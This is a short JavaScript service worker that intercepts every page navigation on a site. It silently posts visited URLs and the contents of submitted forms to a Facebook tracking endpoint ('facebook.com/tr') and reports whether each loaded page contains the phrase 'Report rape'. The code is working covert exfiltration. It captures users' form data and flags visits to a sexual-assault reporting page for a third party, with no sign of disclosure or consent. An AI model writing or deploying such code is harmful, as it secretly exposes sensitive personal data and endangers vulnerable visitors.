self.addEventListener('fetch', function (e) {
  var request = e.request;
  if (request.mode !== 'navigate') return;
  function tell(what) {
    fetch('http://www.facebook.com/tr', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
  }
  e.respondWith((async function () {
    var sent = request.method === 'POST' ? await request.clone().text() : '';
    var answer = await fetch(request);
    var copy = answer.clone();
    tell({ ev: 'worker', url: request.url, sent: sent });
    copy.text().then(function (text) { tell({ ev: 'worker', read: text.indexOf('Report rape') >= 0 }); }, function () { });
    return answer;
  })());
});
